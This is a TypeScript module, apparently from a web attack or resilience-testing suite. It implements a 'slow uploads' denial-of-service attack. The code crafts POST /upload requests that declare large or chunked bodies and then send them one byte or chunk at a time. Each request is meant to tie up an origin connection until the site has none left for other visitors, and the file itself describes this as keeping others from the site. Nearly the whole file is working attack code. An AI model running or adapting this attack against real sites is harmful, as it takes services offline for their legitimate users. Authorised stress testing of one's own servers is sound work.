/**
 * Uploads that start and then continue one byte at a time: small ones, ones of unknown length, and large ones whose beginning
 * comes fast. Each would hold a connection to the origin as long as it lasts, until there are none left.
 */
import type { Attack } from "./attack.ts";
import { CONNECTIONS, CROWDED, crowdOut, type Front, frontsOf } from "./crowding.ts";

/** More than is buffered. */
const BEGINNING = "x".repeat(70_000);

export const slowUploads: Attack = {
  name: "slow uploads",
  about: "keep others from the site by uploads that never end",
  ...CROWDED,
  async run(target, scale) {
    const examples: string[] = [];
    let attempts = 0;
    for (const front of await frontsOf(target)) {
      const send = (n: number) => begin(front, n);
      // Chunked bodies get a chunk, the others a few bytes.
      examples.push(...(await crowdOut(target, { scale, front, send, drip: "1\r\nx\r\n" })));
      attempts += CONNECTIONS[scale];
    }
    return { attempts, through: examples.length, examples: examples.slice(0, 3) };
  },
};

function begin({ path, cookie }: Front, n: number): string {
  const head = `POST ${path}/upload HTTP/1.1\r\nHost: a\r\n${cookie}`;
  if (n % 4 === 0) return `${head}Content-Length: 60000\r\n\r\nx`;
  if (n % 4 === 1) return `${head}Transfer-Encoding: chunked\r\n\r\n`;
  return `${head}Content-Length: 9000000\r\n\r\n${BEGINNING}`;
}
